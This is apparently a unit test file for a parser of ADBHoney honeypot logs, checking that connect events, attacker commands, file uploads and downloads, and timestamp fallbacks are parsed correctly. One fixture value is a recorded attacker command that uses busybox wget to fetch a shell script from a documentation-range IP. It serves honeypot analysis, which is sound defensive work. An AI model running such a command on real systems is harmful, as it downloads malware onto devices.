import { test } from "uvu";
import * as assert from "uvu/assert";
import { adbhoney } from "../../scripts/parse/adbhoney.ts";
import { asEvent, parseFixture } from "./helpers.ts";

const results = parseFixture(adbhoney, "adbhoney.json");

test("session.connect with a string dest_port is a connect on 5555", () => {
  assert.equal(asEvent(results[0]), {
    honeypot: "adbhoney",
    ts: Date.UTC(2024, 4, 6, 10, 11, 12, 345),
    kind: "connect",
    srcIp: "203.0.113.12",
    session: "a1b2c3d4e5f6",
    srcPort: 38033,
    dstPort: 5555,
    protocol: "adb",
  });
  assert.is(asEvent(results[5]).dstPort, 5555);
});

test("command.input, file_upload, file_download", () => {
  assert.is(asEvent(results[1]).command, "cd /data/local/tmp; busybox wget http://198.51.100.9/a.sh");
  const upload = asEvent(results[2]);
  assert.is(upload.kind, "download");
  assert.is(upload.url, undefined);
  assert.is(upload.sha256, "0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9");
  const download = asEvent(results[3]);
  assert.is(download.url, "http://198.51.100.9/b.sh");
});

test("closed without timestamp falls back to unixtime", () => {
  const closed = asEvent(results[4]);
  assert.is(closed.kind, "other");
  assert.is(closed.ts, 1714990280000);
});

test.run();
